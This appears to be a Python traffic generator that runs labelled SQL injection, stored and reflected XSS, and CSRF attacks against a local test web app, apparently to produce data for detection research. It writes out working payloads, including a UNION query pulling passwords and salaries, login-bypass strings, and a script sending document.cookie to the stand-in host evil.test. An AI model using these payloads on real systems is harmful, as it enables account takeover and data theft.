"""Attackers: each request that attacks is labelled. Loopback alone, at most some two requests a second."""
from urllib.parse import quote

from recorder.labels import Label
from recorder.plain_client import PlainClient

from .directory import FIELDS, PEOPLE
from .people import log_in

SCRIPT = "fetch('/edit',{method:'POST',body:new URLSearchParams('%s')})"


class Attacker:
    def __init__(self, episode, rand):
        self.episode, self.rand, self.client = episode, rand, PlainClient(episode.instance.address, rand, episode.labels)

    async def run(self, kind):
        """`update-N` alters N fields of others; `update-development` from one to six; the others read, plant or forge."""
        act, _, fields = kind.partition("-")
        await log_in(self.client, PEOPLE[11])
        while await self.episode.pause(self.rand.uniform(0.5, 1.1)):
            count = int(fields) if fields.isdigit() else self.rand.randint(1, 6)
            await self.episode.guarded(getattr(self, act)(count))

    def _values(self, count):
        return {name: f"owned{self.rand.randrange(10**4)}" for name in self.rand.sample(FIELDS, count)}

    async def update(self, count):
        """An UPDATE of somebody else's row by a field that ends the literal."""
        values = self._values(count)
        (first, one), *rest = values.items()
        target = self.rand.choice([f"id={self.rand.randint(1, 11)}", f"login='{self.rand.choice(PEOPLE[:11]).login}'"])
        text = one + "".join(f"', {name}='{value}" for name, value in rest) + f"' WHERE {target} {self.rand.choice(['-- ', '#'])}"
        await self.client.call("POST", "/edit", form={first: text}, label=Label("sqli", "update-injection", count))

    async def union(self, _):
        what = self.rand.choice(["id, login, password, salary FROM employees", "1, table_name, table_schema, 4 FROM information_schema.tables"])
        await self.client.visit("/directory?q=" + quote(f"zz%' UNION SELECT {what} -- ", safe=""), label=Label("sqli", "union-exfiltration", 0))

    async def bypass(self, _):
        self.client.cookies.clear()
        name = self.rand.choice(["admin' -- ", "admin'#", "' OR 1=1 LIMIT 1 -- ", "' OR team='Sales' LIMIT 1#"])
        await self.client.visit("/login")
        await self.client.request("POST", "/login", form={"login": name, "password": "x"}, label=Label("sqli", "login-bypass", 0))

    async def stored(self, count):
        """A script on the wall, which alters fields of whoever reads it."""
        pairs = "&".join(f"{name}={value}" for name, value in self._values(count).items())
        body = f"<script>{SCRIPT % pairs}</script>"
        await self.client.call("POST", "/wall", form={"body": body}, label=Label("xss", "stored-plant", count))
        await self.episode.pause(2)

    async def reflected(self, _):
        code = self.rand.choice(["<script>new Image().src='//evil.test/'+document.cookie</script>", "<img src=x onerror=alert(document.cookie)>", "<svg onload=fetch('//evil.test/')>"])
        await self.client.visit("/directory?q=" + quote(code, safe=""), label=Label("xss", "reflected", 0))

    async def forged(self, count):
        """What another site's page makes a victim's browser send: the victim's cookie, that site's Origin."""
        victim = PlainClient(self.episode.instance.address, self.rand, self.episode.labels)
        await log_in(victim, self.rand.choice(PEOPLE[1:11]))
        headers = {"Origin": "https://prizes.example", "Referer": "https://prizes.example/win", "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
        await victim.call("POST", "/edit", form=self._values(count), headers=headers, label=Label("csrf", "forged-post", count))
        victim.close()
